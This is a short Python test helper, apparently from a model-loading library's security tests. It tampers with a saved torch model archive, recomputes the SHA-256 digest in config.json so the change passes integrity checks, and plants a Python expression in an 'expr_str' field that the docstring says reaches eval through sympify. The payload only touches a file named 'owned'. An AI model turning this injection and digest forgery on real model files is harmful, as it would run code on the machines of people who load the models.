"""Malicious changes to a model's folder."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path


def tampered(folder: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    """Rewrite the archive, with digests that fit: whoever can write a model can write its config.json."""
    path = folder / "model.pt2"
    with zipfile.ZipFile(path) as archive:
        records = {name: archive.read(name) for name in archive.namelist()}
    change(records)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in records.items():
            archive.writestr(name, content)
    config = json.loads((folder / "config.json").read_text())
    config["sha256"]["model.pt2"] = sha256(path.read_bytes()).hexdigest()
    (folder / "config.json").write_text(json.dumps(config))


def in_expressions(records: dict[str, bytes]) -> None:
    """No pickle: the size of a batch as text, which torch gives to sympify, and that to eval."""
    (name,) = [name for name in records if name.endswith("models/model.json")]
    call = json.dumps("__import__('pathlib').Path('owned').touch()").encode()
    records[name] = re.sub(rb'(?<="expr_str": )"[^"]*"', lambda _: call, records[name])
